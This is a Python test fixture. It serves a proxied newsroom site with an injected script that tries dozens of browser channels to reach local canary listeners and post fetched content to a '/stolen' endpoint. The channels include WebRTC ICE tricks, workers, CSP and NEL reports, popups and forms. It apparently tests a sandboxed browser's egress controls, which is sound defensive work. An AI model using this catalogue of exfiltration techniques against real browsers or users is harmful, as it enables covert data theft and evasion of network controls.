"""A site whose pages try every way out of a browser, in front of a newsroom that is honest."""

from http.client import HTTPConnection
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

from tests.serving import Serving

SCRIPT = r"""
(() => {
const OUT = "http://127.0.0.1:@TCP", STUN = "127.0.0.1:@UDP", OWN = location.origin;
const by = name => `${OUT}/${name}`;
const over = name => `${OWN}/away?to=${encodeURIComponent(by("redirected-" + name))}`;
const own = name => `${OWN}/forbidden/${name}`;
const tell = (way, text) => fetch(`${OWN}/stolen?${way}`, {method: "POST", body: text});
const tried = {};
const attempt = (name, work) => {
  try { tried[name] = "tried"; work(); } catch (error) { tried[name] = String(error); }
};
const put = (tag, attributes, parent = document.body) => {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  parent.appendChild(element);
  return element;
};
const hidden = {width: 1, height: 1};
const take = (way, url) => fetch(url).then(r => r.text()).then(text => tell(way, text));
const inWorker = way => `
  for (const [name, url] of ${JSON.stringify([["", by(way)], ["r-", over(way)], ["f-", own(way)]])})
    fetch(url).then(r => r.text()).then(text => fetch("${OWN}/stolen?" + name + "${way}",
      {method: "POST", body: text}), () => {});
  try { new WebSocket("${OUT.replace("http", "ws")}/socket-of-${way}"); } catch {}
  try { new EventSource("${by("events-of-" + way)}"); } catch {}
  try { importScripts("${by("import-of-" + way)}"); } catch {}
`;
const script = text => URL.createObjectURL(new Blob([text], {type: "text/javascript"}));
const stun = (way, window_) => {
  const peer = new window_.RTCPeerConnection({iceServers: [
    {urls: `stun:${STUN}`}, {urls: `turn:${STUN}`, username: "a", credential: "b"},
    {urls: `turn:127.0.0.1:@TCP?transport=tcp`, username: "a", credential: "b"}]});
  peer.createDataChannel(way);
  peer.createOffer().then(offer => {
    peer.setLocalDescription(offer);
    // an answer of our own making, whose candidate is the listener
    const other = new window_.RTCPeerConnection();
    other.setRemoteDescription(offer).then(() => other.createAnswer()).then(answer => {
      other.setLocalDescription(answer);
      return peer.setRemoteDescription(answer);
    }).then(() => {
      for (const [kind, to] of [["udp", STUN], ["tcp", "127.0.0.1:@TCP"]]) {
        const [address, port] = to.split(":");
        peer.addIceCandidate({sdpMid: "0", candidate:
          `candidate:1 1 ${kind} 2122260223 ${address} ${port} typ host` +
          (kind === "tcp" ? " tcptype passive" : "")}).catch(() => {});
      }
    }).catch(() => {});
  });
};

attempt("fetch", () => take("fetch", by("fetch")));
attempt("fetch-redirected", () => take("fetch-redirected", over("fetch")));
attempt("fetch-keepalive", () => fetch(by("keepalive"), {method: "POST", keepalive: true,
  mode: "no-cors", body: "x"}));
attempt("fetch-no-cors", () => fetch(over("no-cors"), {mode: "no-cors"}));
attempt("xhr", () => { const x = new XMLHttpRequest(); x.open("GET", by("xhr")); x.send(); });
attempt("xhr-redirected", () => { const x = new XMLHttpRequest(); x.open("GET", over("xhr"));
  x.onload = () => tell("xhr", x.responseText); x.send(); });
for (const [tag, name] of [["img", "src"], ["script", "src"], ["iframe", "src"], ["embed", "src"],
  ["object", "data"], ["video", "src"], ["audio", "src"], ["track", "src"], ["frame", "src"],
  ["portal", "src"], ["fencedframe", "src"], ["body", "background"], ["source", "src"]]) {
  attempt(tag, () => put(tag, {[name]: by(tag), ...hidden}));
  attempt(`${tag}-redirected`, () => put(tag, {[name]: over(tag), ...hidden}));
}
attempt("fencedframe-config", () => {
  put("fencedframe", hidden).config = new FencedFrameConfig(by("fencedframe-config")); });
for (const rel of ["stylesheet", "prefetch", "preload", "modulepreload", "preconnect",
  "dns-prefetch", "prerender", "icon", "manifest", "apple-touch-icon", "import"]) {
  for (const [way, url] of [["", by(`link-${rel}`)], ["redirected-", over(`link-${rel}`)],
    ["own-", own(`link-${rel}`)]])
    attempt(`${way}link-${rel}`, () => put("link", {rel, href: url, as: "fetch",
      crossorigin: "anonymous"}, document.head));
}
attempt("css", () => { put("style", {}, document.head).textContent =
  `@import url(${by("css-import")}); @import url(${over("css-import")});
   @font-face {font-family: x; src: url(${by("font")}), url(${over("font")})}
   body {font-family: x; background: url(${by("css-background")}); cursor: url(${by("cursor")}),
   auto}`; });
attempt("svg", () => { const box = put("div", {}); box.innerHTML =
  `<svg><image href="${by("svg-image")}"/><use href="${by("svg-use")}#a"/></svg>`; });
attempt("srcset", () => put("img", {srcset: `${by("srcset")} 1x`}));
attempt("poster", () => put("video", {poster: by("poster")}));
attempt("input-image", () => put("input", {type: "image", src: by("input-image")}));
attempt("module", () => import(by("module")).catch(() => {}));
attempt("socket", () => new WebSocket(`${OUT.replace("http", "ws")}/socket`));
attempt("socket-redirected", () => new WebSocket(over("socket").replace("http", "ws")));
attempt("socket-tls", () => new WebSocket(`${OUT.replace("http", "wss")}/socket-tls`));
attempt("events", () => new EventSource(by("events")));
attempt("events-redirected", () => new EventSource(over("events")));
attempt("beacon", () => navigator.sendBeacon(by("beacon"), "x"));
attempt("beacon-redirected", () => navigator.sendBeacon(over("beacon"), "x"));
attempt("webtransport", () => new WebTransport(`https://${STUN}/wt`).ready.catch(() => {}));
attempt("webtransport-tcp", () => new WebTransport(`${OUT.replace("http", "https")}/wt`)
  .ready.catch(() => {}));
attempt("https", () => fetch(OUT.replace("http", "https")).catch(() => {}));
attempt("localhost", () => fetch(by("localhost").replace("127.0.0.1", "localhost")));
attempt("mapped", () => fetch(by("mapped").replace("127.0.0.1", "[::ffff:127.0.0.1]")));
attempt("number", () => fetch(by("number").replace("127.0.0.1", "2130706433")));
attempt("other-loopback", () => fetch(by("other-loopback").replace("127.0.0.1", "127.1.2.3")));
attempt("user", () => take("user", `${OWN.replace("//", "//127.0.0.1:@TCP@")}/x`));
attempt("rtc", () => stun("rtc", window));
attempt("rtc-of-frame", () => { const frame = put("iframe", {});
  stun("rtc-of-frame", frame.contentWindow); });
attempt("rtc-of-data", () => put("iframe", {srcdoc: `<script>${stun};
  const STUN = "${STUN}"; stun("data", window)<\/script>`}));
attempt("worker", () => new Worker(script(inWorker("worker"))));
attempt("worker-of-own", () => new Worker("/hostile-worker.js?worker-of-own"));
attempt("worker-away", () => new Worker(over("worker")));
attempt("module-worker", () => new Worker(script(`import "${by("module-worker")}"`),
  {type: "module"}));
attempt("shared-worker", () => new SharedWorker(script(inWorker("shared-worker"))));
attempt("shared-worker-of-own", () => new SharedWorker("/hostile-worker.js?shared-of-own"));
attempt("service-worker", () => { ServiceWorkerContainer.prototype.register.call(
  navigator.serviceWorker, "/hostile-worker.js?service-worker").catch(() => {}); });
attempt("worklet", () => CSS.paintWorklet.addModule(by("paint")).catch(() => {}));
attempt("audio-worklet", () => new AudioContext().audioWorklet.addModule(by("audio-worklet"))
  .catch(() => {}));
for (const eagerness of ["immediate"]) attempt("speculation", () => {
  put("script", {type: "speculationrules"}, document.head).textContent = JSON.stringify({
    prefetch: [{urls: [by("speculated-prefetch"), over("speculated-prefetch"),
      own("speculated-prefetch")], eagerness}],
    prerender: [{urls: [by("speculated-prerender"), over("speculated-prerender"),
      own("speculated-prerender")], eagerness}]}); });
attempt("data-frame", () => put("iframe", {src: "data:text/html," + encodeURIComponent(
  `<script>fetch("${by("data-frame")}", {mode: "no-cors"});
  new WebSocket("${OUT.replace("http", "ws")}/data-socket")<\/script>`)}));
attempt("blob-frame", () => put("iframe", {src: URL.createObjectURL(new Blob([
  `<script>fetch("${by("blob-frame")}")<\/script><img src="${by("blob-image")}">`],
  {type: "text/html"}))}));
attempt("sandboxed", () => put("iframe", {sandbox: "allow-scripts allow-popups",
  srcdoc: `<script>fetch("${by("sandboxed")}", {mode: "no-cors"}); open("${by("sandboxed-pop")}")
  <\/script>`}));
attempt("frame-refresh", () => put("iframe", {srcdoc:
  `<meta http-equiv="refresh" content="0;url=${by("frame-refresh")}">`}));
attempt("csp-report", () => put("iframe", {src: "/reporting"}));
attempt("open", () => window.open(by("open")));
attempt("open-redirected", () => window.open(over("open")));
attempt("open-own", () => window.open(own("open")));
attempt("open-noopener", () => window.open(by("noopener"), "_blank", "noopener"));
attempt("open-own-noopener", () => window.open(own("noopener"), "_blank", "noopener"));
attempt("open-blank", () => { const w = window.open("about:blank");
  w && w.document.write(`<script>fetch("${by("blank")}", {mode: "no-cors"})<\/script>
  <img src="${by("blank-image")}">`); });
attempt("click-target", () => put("a", {href: by("click-target"), target: "_blank"}).click());
attempt("ping", () => put("a", {href: "#x", ping: `${by("ping")} ${over("ping")}`}).click());
attempt("download-own", () => put("a", {href: own("download"), download: "x"}).click());
attempt("form", () => { const form = put("form", {action: by("form"), method: "post",
  target: "_blank"}); form.submit(); });
attempt("form-in-frame", () => { put("iframe", {name: "inside"}); put("form",
  {action: over("form"), target: "inside", method: "post"}).submit(); });
attempt("external", () => put("iframe", {src: "mailto:x@example.org"}));
attempt("chrome", () => put("iframe", {src: "chrome://net-internals"}));
attempt("payment", () => new PaymentRequest([{supportedMethods: by("payment")}],
  {total: {label: "x", amount: {currency: "EUR", value: "1"}}}).canMakePayment());
attempt("background-fetch", () => navigator.serviceWorker.ready.then(r =>
  r.backgroundFetch.fetch("x", [by("background-fetch")])));
attempt("protocol", () => navigator.registerProtocolHandler("web+x", OWN + "/?%s"));
attempt("attribution", () => put("img", {attributionsrc: by("attribution"), src: "/x"}));
attempt("shared-storage", () => sharedStorage.createWorklet(by("shared-storage")));
attempt("auction", () => navigator.runAdAuction({seller: OUT, decisionLogicURL: by("auction")}));
attempt("client-hints", () => put("meta", {"http-equiv": "Accept-CH", content: "DPR"}));
attempt("fedcm", () => navigator.credentials.get({identity: {providers: [
  {configURL: by("fedcm"), clientId: "x"}]}}));
attempt("geolocation", () => navigator.geolocation.getCurrentPosition(() => {}, () => {}));
attempt("webauthn", () => navigator.credentials.get({publicKey: {challenge: new Uint8Array(8),
  rpId: "127.0.0.1"}}).catch(() => {}));
window.hostileTried = tried;
if (self === top && !sessionStorage.left) {
  LEAVING
}
})();
"""

LEAVING = {
    "": "",
    "location": 'sessionStorage.left = 1; location = by("location");',
    "redirected": 'sessionStorage.left = 1; location = over("location");',
    "refresh": 'sessionStorage.left = 1; put("meta", {"http-equiv": "refresh",'
    ' content: "0;url=" + by("refresh")}, document.head);',
    "download": 'sessionStorage.left = 1; put("a", {href: by("download"), download: "x"}).click();',
    "form": 'sessionStorage.left = 1; put("form", {action: by("form-self"),'
    ' method: "post"}).submit();',
}

WORKER = r"""
const OWN = location.origin, OUT = "http://127.0.0.1:@TCP", way = location.search.slice(1);
for (const [name, url] of [["", `${OUT}/${way}`], ["f-", `${OWN}/forbidden/${way}`],
  ["r-", `${OWN}/away?to=${encodeURIComponent(`${OUT}/redirected-${way}`)}`]])
  fetch(url).then(r => r.text()).then(text => fetch(`${OWN}/stolen?${name}${way}`,
    {method: "POST", body: text}), () => {});
try { new WebSocket(`${OUT.replace("http", "ws")}/socket-of-${way}`); } catch {}
"""


class HostileSite(Serving):
    """Passes requests on to a newsroom and adds to every listing what tries to get away."""

    def __init__(self, newsroom, canaries, leaving="", robots="", tls=None):
        self.newsroom, self.canaries, self.robots = newsroom, canaries, robots
        self.asked, self.stolen = [], []
        self.script = self._aimed(SCRIPT.replace("LEAVING", LEAVING[leaving]))
        site = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self):
                site.answer(self)

            do_POST = do_GET

            def log_message(self, *_):
                """Keep quiet."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        if tls is not None:
            self._server.socket = tls.wrap_socket(self._server.socket, server_side=True)
        scheme = "http" if tls is None else "https"
        self.url = f"{scheme}://127.0.0.1:{self._server.server_port}/"

    def answer(self, handler):
        """Answer one request."""
        length = int(handler.headers.get("Content-Length") or 0)
        body = handler.rfile.read(length)
        self.asked.append(handler.path)
        path = urlsplit(handler.path)
        headers, status = {"Content-Type": "text/javascript"}, 200
        if path.path == "/away":
            status, answer = 307, b""
            headers["Location"] = parse_qs(path.query)["to"][0]
        elif path.path == "/hostile.js":
            answer = self.script
        elif path.path == "/hostile-worker.js":
            answer = self._aimed(WORKER)
        elif path.path == "/stolen":
            self.stolen.append((path.query, body))
            answer = b""
        elif path.path == "/robots.txt":
            headers["Content-Type"], answer = "text/plain", self.robots.encode()
        elif path.path == "/reporting":
            headers |= self._reports()
            answer = b"<script>eval(1)</script><img src=/blocked.png>"
        elif path.path.startswith("/forbidden/"):
            headers["Content-Type"], answer = "text/html", b"forbidden"
        else:
            status, headers, answer = self._honest(handler, body)
        handler.send_response(status)
        for name, value in headers.items():
            handler.send_header(name, value)
        handler.send_header("Content-Length", str(len(answer)))
        handler.end_headers()
        if handler.command != "HEAD":
            handler.wfile.write(answer)

    def _honest(self, handler, body):
        parts = urlsplit(self.newsroom.url)
        connection = HTTPConnection(parts.hostname, parts.port, timeout=300)
        kept = {
            name: value
            for name, value in handler.headers.items()
            if name.lower() not in ("connection", "accept-encoding", "content-length")
        }
        connection.request(handler.command, handler.path, body or None, kept)
        response = connection.getresponse()
        answer = response.read()
        if self.url.startswith("https:"):
            answer = answer.replace(b"http://127.0.0.1", b"https://127.0.0.1")
            answer = answer.replace(b"http:\\/\\/127.0.0.1", b"https:\\/\\/127.0.0.1")
        headers = {
            name: value
            for name, value in response.getheaders()
            if name.lower() in ("content-type", "location", "retry-after")
        }
        if "/category/" in handler.path and b"</body>" in answer:
            answer = answer.replace(b"</body>", b'<script src="/hostile.js"></script></body>')
            headers["Link"] = self._aimed(
                '<http://127.0.0.1:@TCP/link-header>; rel="preload"'
            ).decode()
        return response.status, headers, answer

    def _reports(self):
        out = f"http://127.0.0.1:{self.canaries.tcp}"
        return {
            "Content-Type": "text/html",
            "Content-Security-Policy": f"default-src 'none'; report-uri {out}/csp; report-to out",
            "Reporting-Endpoints": f'out="{out}/reporting", default="{out}/reporting-default"',
            "Report-To": '{"group": "out", "max_age": 99, "endpoints":'
            f' [{{"url": "{out}/report-to"}}]}}',
            "NEL": '{"report_to":"out","max_age":99,"success_fraction":1.0}',
            "Link": f"<{out}/early>; rel=preconnect, <{out}/early-style>; rel=preload; as=style",
            "Alt-Svc": f'h3=":{self.canaries.udp}"; ma=99, h2="127.0.0.1:{self.canaries.tcp}"',
        }

    def _aimed(self, text):
        text = text.replace("@TCP", str(self.canaries.tcp)).replace("@UDP", str(self.canaries.udp))
        return text.encode()
